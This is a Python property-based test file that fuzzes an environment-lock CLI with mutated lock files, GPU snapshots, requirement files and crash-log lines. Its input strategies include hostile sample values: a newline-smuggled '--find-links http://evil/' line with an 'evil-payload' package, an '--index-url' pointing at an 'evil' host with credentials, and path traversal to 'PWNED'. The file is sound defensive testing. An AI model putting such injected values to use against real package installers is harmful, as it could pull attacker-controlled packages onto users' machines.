"""Issue 18: generated hostile locks, snapshots, requirement files and log lines, driven
through the CLI entry point. None may end in exit 70 or a traceback.

Each property runs ``ENVLOCK_PROPERTY_EXAMPLES`` cases (200 by default). The acceptance
run is one property at a time with 10,000 cases::

    ENVLOCK_PROPERTY_EXAMPLES=10000 python -m pytest -q -p no:cacheprovider \
        tests/security/test_properties.py -k test_generated_locks --hypothesis-show-statistics

A case costs the CLI run itself (15-60 ms) plus data generation; generated locks are
written with :mod:`tests.security.toml_text`, not tomlkit, which alone cost ~0.13 s a case.
"""

from __future__ import annotations

import json
import pickle
import random
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from tests.security import toml_text
from tests.security.cli_run import assert_contract, run_cli
from tests.security.documents import FORMATS, LOCK, SNAPSHOT, tomllib
from tests.security.props import examples

SETTINGS = settings(max_examples=examples(), deadline=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                           HealthCheck.function_scoped_fixture])

# hostile scalars: control characters, newlines, odd digits, huge and odd numbers
_TEXT = st.one_of(
    st.text(max_size=40),
    st.sampled_from(["", "\n--find-links http://evil/\nevil-payload==1.0", "sm_xx", "abc",
                     "9.x", "１２.４", "٥٣٥.١٠٤", "../../PWNED", "0" * 64, "Z" * 64,
                     "2.5.1+cu121", "==2.5.1", "not a version", "\x1b[2J", "\u2028",
                     "535.104.05", "-1", "inf", "nan", "1e309", "9" * 400]),
)
_SCALAR = st.one_of(_TEXT, st.integers(min_value=-2**70, max_value=2**70), st.booleans(),
                    st.floats(allow_nan=True, allow_infinity=True))
_VALUE = st.recursive(_SCALAR, lambda inner: st.one_of(
    st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)),
    max_leaves=6)


def _paths(obj: Any, prefix: tuple = ()) -> list[tuple]:
    out = [prefix]
    if len(prefix) > 8:  # never descend into a planted deep nest
        return out
    if isinstance(obj, dict):
        for k, v in obj.items():
            out += _paths(v, prefix + (k,))
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            out += _paths(v, prefix + (i,))
    return out


def _spread(paths: list[tuple]) -> list[tuple]:
    """The paths in a fixed pseudo-random order: hypothesis favours (and shrinks towards)
    the first elements of a ``sampled_from``, which in document order are the lock's
    ``version`` and the snapshot's header (one generated lock in seven lost its version)."""
    random.Random(len(paths)).shuffle(paths)
    return paths


_BASE_PATHS: dict[int, tuple[Any, list[tuple]]] = {}  # id -> (the document, its paths)


def _mutate(doc: Any, data: st.DataObject, rounds: int) -> Any:
    # a pickle round trip copies the plain tree several times faster than deepcopy, and
    # the unmutated document's paths are listed once, not once per case
    if id(doc) not in _BASE_PATHS:  # the document is kept, so its id is never reused
        _BASE_PATHS[id(doc)] = (doc, _spread([p for p in _paths(doc) if p]))
    base = _BASE_PATHS[id(doc)][1]
    doc = pickle.loads(pickle.dumps(doc))
    for round_ in range(rounds):
        paths = base if round_ == 0 else _spread([p for p in _paths(doc) if p])
        if not paths:
            break
        path = data.draw(st.sampled_from(paths))
        parent = doc
        for k in path[:-1]:
            parent = parent[k]
        action = data.draw(st.sampled_from(["replace", "replace", "delete", "nest"]))
        if action == "delete":
            del parent[path[-1]]
        elif action == "nest":
            depth = data.draw(st.sampled_from([3, 50, 400, 3000]))
            v: Any = "x"
            for _ in range(depth):
                v = [v]
            parent[path[-1]] = v
        else:
            parent[path[-1]] = data.draw(_VALUE)
    return doc


def _toml_text(doc: Any) -> str:
    return toml_text.dumps(doc)


@pytest.fixture(scope="module")
def lock_doc() -> Any:
    return tomllib.loads(LOCK.read_text())


@pytest.fixture(scope="module")
def snapshot_doc() -> Any:
    return json.loads(SNAPSHOT.read_text())


def test_toml_writer_gives_back_the_lock_tree(lock_doc: Any) -> None:
    """The generated-lock property feeds the CLI through this writer: the text it writes
    must parse back to the very tree that was generated, deep nests included."""
    assert tomllib.loads(toml_text.dumps(lock_doc)) == lock_doc
    odd = {"k\n\"": ["\x00\x7f\u2028", -0.5, 2**70, {"": []}], "t": [{"a": {"b": True}}]}
    assert tomllib.loads(toml_text.dumps(odd)) == odd
    v: Any = "x"
    for _ in range(3000):
        v = [v]
    text = toml_text.dumps({"version": 1, "deep": v})
    assert text.count("[") == 3000 and text.count("]") == 3000


@SETTINGS
@given(data=st.data(), rounds=st.integers(1, 4), fmt=st.sampled_from(FORMATS + ["verify"]))
def test_generated_locks(tmp_path: Path, lock_doc: Any, data: st.DataObject, rounds: int,
                         fmt: str) -> None:
    path = tmp_path / "gen.lock"
    path.write_text(_toml_text(_mutate(lock_doc, data, rounds)))
    if fmt == "verify":
        argv = ["verify", "--lock", str(path), "--snapshot", str(SNAPSHOT)]
    else:
        argv = ["export", "--lock", str(path), "--format", fmt, "--target", "h20"]
    r = run_cli(argv)
    event(f"{fmt}: exit {r.code}")  # --hypothesis-show-statistics shows what was reached
    assert_contract(r, argv)
    if r.code == 0 and fmt in ("requirements", "constraints"):
        for line in r.stdout.splitlines():  # nothing active but pins and index options
            assert line == "" or line.startswith(("#", "--index-url", "--extra-index-url",
                                                  "    --hash=")) or "==" in line, line


@SETTINGS
@given(data=st.data(), rounds=st.integers(1, 4),
       cmd=st.sampled_from(["verify", "doctor", "resolve"]))
def test_generated_snapshots(tmp_path: Path, snapshot_doc: Any, data: st.DataObject,
                             rounds: int, cmd: str) -> None:
    path = tmp_path / "gen.json"
    try:
        text = json.dumps(_mutate(snapshot_doc, data, rounds))
    except (RecursionError, ValueError):
        text = "[" * 100000
    path.write_text(text)
    argv = {"verify": ["verify", "--lock", str(LOCK), "--target", "h100-sxm", "--snapshot",
                       str(path)],
            "doctor": ["doctor", "--snapshot", str(path)],
            "resolve": ["resolve", "--from-snapshot", str(path), "--offline", "--dry-run"],
            }[cmd]
    r = run_cli(argv)
    event(f"{cmd}: exit {r.code}")
    assert_contract(r, argv)


_REQ_LINE = st.one_of(
    st.text(max_size=60),
    st.sampled_from(["numpy>=1", "torch==2.5.1", "-r /dev/zero", "-r missing.txt",
                     "--index-url http://u:p@evil/simple", "numpy @ https://x/y.whl",
                     "foo[bar]>=1; python_version >= '3.8'", "pkg==1.0 --hash=sha256:abc",
                     "-c c.txt", "-e .", "torch>=999", "nvidia-cublas-cu12==٣", "a==1\\",
                     "-r self.txt"]),
)


@SETTINGS
@given(lines=st.lists(_REQ_LINE, max_size=6))
def test_generated_requirement_files(tmp_path: Path, lines: list[str]) -> None:
    req = tmp_path / "self.txt"
    req.write_text("\n".join(lines) + "\n", encoding="utf-8", errors="surrogatepass")
    argv = ["resolve", "--gpu", "H100 SXM", "--offline", "--dry-run", "-r", str(req)]
    r = run_cli(argv)
    event(f"exit {r.code}")
    assert_contract(r, argv)


_LOG_LINE = st.one_of(
    st.text(max_size=200),
    st.sampled_from(["CUBLAS_STATUS_EXECUTION_FAILED when calling cublasGemmEx",
                     "exitcode: -8", "Signal 11 (SIGSEGV)", "NCCL WARN " + "a" * 5000,
                     "x" * 100000, "\x00" * 100, "Watchdog caught collective operation timeout"
                     + " " * 10000 + "!"]),
    st.builds(lambda c, n: c * n, st.sampled_from(["a", " ", "\t", "0", "_", "-"]),
              st.integers(1, 20000)),
)


@SETTINGS
@given(lines=st.lists(_LOG_LINE, max_size=8))
def test_generated_log_lines(tmp_path: Path, lines: list[str]) -> None:
    log = tmp_path / "crash.log"
    log.write_bytes("\n".join(lines).encode("utf-8", errors="surrogatepass"))
    argv = ["doctor", "--snapshot", str(SNAPSHOT), "--log", str(log)]
    r = run_cli(argv)
    event(f"exit {r.code}")
    assert_contract(r, argv)
